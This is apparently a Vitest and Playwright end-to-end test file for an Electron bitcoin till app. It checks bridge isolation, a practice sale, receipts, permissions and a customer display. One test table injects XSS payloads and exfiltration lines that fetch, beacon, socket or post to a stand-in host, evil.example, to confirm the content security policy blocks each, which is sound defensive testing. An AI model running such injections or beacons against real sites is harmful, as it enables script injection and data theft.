import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { contentSecurityPolicy } from '../../main/content-security-policy.ts';
import type { TillBridge } from '../../shared/ipc/contract.ts';
import { COMMAND_NAMES } from '../../shared/ipc/names.ts';
import { chromiumLaunchOptions, hasChromium } from '../helpers/chromium.ts';
import { openWindowInChromium, type WindowInChromium } from './stand-in/chromium-page.ts';
import * as electron from './stand-in/electron.ts';

/** A machine that runs other tests as well may take its time. */
const SOON = { timeout: 20_000 };

/** The program as it is shipped: main, preload and renderer as built, in Chromium, with the stand-in between them. */
const BUILT_MAIN = '../../dist/electron/main.js';

let folder: string;
let browser: Browser;
let context: BrowserContext;
let opened: WindowInChromium;
let page: Page;
let customersPage: Page | undefined;

// Without Chromium there is no page to look at; in CI that is a failure.
describe.skipIf(!hasChromium())('the till in a window', () => {
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'till-in-window-'));
    browser = await chromium.launch(chromiumLaunchOptions());
    context = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-GB' });
    electron.electronStandIn.openPage = async (window) => {
      const shown = await openWindowInChromium(context, electron, window);
      if (window === tillWindow()) {
        opened = shown;
        page = shown.page;
      } else customersPage = shown.page;
      return shown;
    };
    vi.spyOn(process.stdout, 'write').mockReturnValue(true);
    process.argv = ['electron', '/till', '--data', folder, '--practice'];
    await import(/* @vite-ignore */ BUILT_MAIN);
    await vi.waitFor(() => expect(page.getByTestId('amount-entry').isVisible()).resolves.toBe(true), {
      timeout: 60_000,
      interval: 200,
    });
  });

  afterAll(async () => {
    electron.app.quit();
    await electron.app.exited;
    await browser.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('has a bridge with the commands and events of the contract, and nothing of Node or Electron', async () => {
    const found = await page.evaluate(() => {
      const { till } = window as unknown as { till: TillBridge };
      const globals = ['require', 'module', 'process', 'Buffer', 'global', 'electron', 'ipcRenderer'];
      return {
        bridge: Object.keys(till),
        commands: Object.keys(till.call),
        frozen: Object.isFrozen(till.call) && Object.isFrozen(till.on),
        ofNode: globals.filter((name) => name in window),
      };
    });
    expect(found).toEqual({ bridge: ['call', 'on'], commands: [...COMMAND_NAMES], frozen: true, ofNode: [] });
  });

  test('makes a sale from the keypad to paid, with news pushed from main', async () => {
    await page.getByTestId('amount-entry').fill('0.00125');
    await page.getByTestId('charge').click();
    await page.getByTestId('invoice-qr').waitFor();
    const uri = new URL((await page.getByTestId('invoice-uri').textContent()) ?? '');
    const payment = { address: uri.pathname, amount: '0.00125000', replaceable: false };
    expect(await practise({ action: 'pay', ...payment })).toMatchObject({ ok: true });
    await showsState('seen', false);
    expect(await practise({ action: 'mine', blocks: 1 })).toMatchObject({ ok: true });
    await showsState('confirmed', true);
  });

  test("prints the receipt through the system's dialog", async () => {
    const { webContents } = tillWindow();
    await page.keyboard.press('F9');
    await vi.waitFor(
      () => expect(webContents.printed).toEqual([{ silent: false, printBackground: false }]),
      SOON,
    );
  });

  test('saves the receipt as a PDF that the page made itself', async () => {
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: /PDF/ }).click();
    const download = await downloading;
    const url = download.url().replace('https://till.test', 'app://till');
    expect(electron.session.defaultSession.tryDownload(url)).toBe(true);
    expect(download.suggestedFilename()).toMatch(/^receipt-\d+\.pdf$/);
    const pdf = await readFile(await download.path());
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
  });

  test("the one inline style is react-aria's, by the hash that the policy allows", async () => {
    const styles = await page.evaluate(() =>
      [...document.querySelectorAll('style')].map((style) => style.textContent),
    );
    const hashes = styles.map((text) => `sha256-${createHash('sha256').update(text).digest('base64')}`);
    expect(hashes).toHaveLength(1);
    expect(contentSecurityPolicy({ connect: 'none' })).toContain(`'${hashes[0]}'`);
    const applied = await page.evaluate(() => document.querySelector('style')?.sheet?.cssRules.length);
    expect(applied).toBe(1);
  });

  test('nothing that the policy forbids was tried in all of this', () => {
    expect(opened.violations).toEqual([]);
    expect(opened.refusedNavigations).toEqual([]);
  });

  test('may put an address on the clipboard, and not read what is there', async () => {
    await page.bringToFront();
    const written = await page.evaluate(() =>
      navigator.clipboard.writeText('bcrt1q').then(() => 'written', String),
    );
    const read = await page.evaluate(() =>
      navigator.clipboard.readText().catch((error: Error) => error.name),
    );
    expect({ written, read }).toEqual({ written: 'written', read: 'NotAllowedError' });
  });

  test('is refused the place where it is, and notifications', async () => {
    const refused = await page.evaluate(async () => ({
      place: await new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => resolve('given'),
          (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : error.message),
        );
      }),
      notifications: await Notification.requestPermission(),
    }));
    expect(refused).toEqual({ place: 'denied', notifications: 'denied' });
  });

  test('has the customer’s display on the second screen, which is told what to show and nothing else', async () => {
    const second = { id: 2, bounds: { x: 1280, y: 0, width: 1920, height: 1080 } };
    electron.screen.displays.push(second);
    await page.evaluate(() =>
      (window as unknown as { till: TillBridge }).till.call.openCustomerDisplay(undefined),
    );
    await vi.waitFor(() => expect(customersPage?.url()).toBe('https://till.test/customer'), SOON);
    const shown = customersPage;
    if (!shown) throw new Error('no display');
    await shown.getByRole('heading', { name: 'PAID' }).waitFor();
    const [, display] = electron.BrowserWindow.getAllWindows();
    expect(display?.options).toMatchObject({ x: 1280, y: 0, fullscreen: true, kiosk: false });
    const replies = await shown.evaluate(async () => {
      const { call } = (window as unknown as { till: TillBridge }).till;
      return [await call.getSettings(undefined), await call.listSales({ limit: 1 })];
    });
    const refused = { ok: false, error: { code: 'not-allowed' } };
    expect(replies).toMatchObject([refused, refused]);
    await page.keyboard.press('F4');
    await page.getByTestId('amount-entry').pressSequentially('0.001+0.002');
    await shown.getByTestId('customer-total').and(shown.locator('[data-btc="0.00300000"]')).waitFor();
    display?.close();
    await page.getByTestId('sale-row').first().click();
    await page.getByTestId('invoice-state').waitFor();
  });

  describe('whatever got into its page', () => {
    test.each([
      [
        'an inline script',
        "const it = document.createElement('script'); it.text = 'window.in = 1'; document.head.append(it)",
      ],
      [
        'markup made from a string',
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
      ],
      ['code made from a string', "setTimeout('window.in = 1')"],
      [
        'a script from elsewhere',
        "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
      ],
      [
        'a style of its own',
        "document.head.append(Object.assign(document.createElement('style'), { textContent: '* { color: red }' }))",
      ],
      ['a request to elsewhere', "fetch('https://evil.example/?authkey')"],
      ['a request to its own origin', "fetch('/index.html')"],
      ['a picture from elsewhere', "new Image().src = 'https://evil.example/?authkey'"],
      ['a socket', "new WebSocket('wss://evil.example/')"],
      [
        'a frame from elsewhere',
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
      ],
      [
        'a form',
        "const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit()",
      ],
      ['a worker', "new Worker('/assets/worker.js')"],
    ])('%s is stopped by the policy', async (_what, code) => {
      const before = opened.violations.length;
      await page.evaluate(`(() => { try { ${code} } catch {} })()`);
      await vi.waitFor(() => expect(opened.violations.length).toBeGreaterThan(before), SOON);
      expect(await page.evaluate(() => 'in' in window)).toBe(false);
      expect(opened.requestsElsewhere).toEqual([]);
    });

    test('can not take the page anywhere else', async () => {
      await page.evaluate(() => {
        window.location.href = 'https://evil.example/';
      });
      await vi.waitFor(() => expect(opened.refusedNavigations).toEqual(['https://evil.example/']), SOON);
      expect(page.url()).toBe('https://till.test/');
      expect(await page.getByTestId('invoice-state').isVisible()).toBe(true);
    });

    test('can not open a window', async () => {
      await page.evaluate(() => void window.open('https://evil.example/'));
      await vi.waitFor(() => expect(opened.refusedWindows).toHaveLength(1), SOON);
      await vi.waitFor(() => expect(context.pages()).toHaveLength(1), SOON);
    });

    test('is refused with a code when it asks the till from a frame of its own', async () => {
      const reply = await page.evaluate(async () => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        type Invoke = (channel: string) => Promise<unknown>;
        const { __standInInvoke: invoke } = frame.contentWindow as unknown as { __standInInvoke: Invoke };
        return invoke('till:getTill');
      });
      expect(reply).toMatchObject({ ok: false, error: { code: 'not-allowed' } });
    });
  });
});

function tillWindow() {
  const [window] = electron.BrowserWindow.getAllWindows();
  if (!window) throw new Error('no window');
  return window;
}

type Practise = Parameters<TillBridge['call']['practise']>[0];

function practise(request: Practise): Promise<unknown> {
  return page.evaluate(
    (asked) => (window as unknown as { till: TillBridge }).till.call.practise(asked),
    request,
  );
}

async function showsState(state: string, paid: boolean): Promise<void> {
  const shown = page.getByTestId('invoice-state');
  await vi.waitFor(
    async () => {
      expect(await shown.getAttribute('data-state', { timeout: 1_000 })).toBe(state);
      expect(await shown.getAttribute('data-paid')).toBe(String(paid));
    },
    { timeout: 20_000, interval: 100 },
  );
}
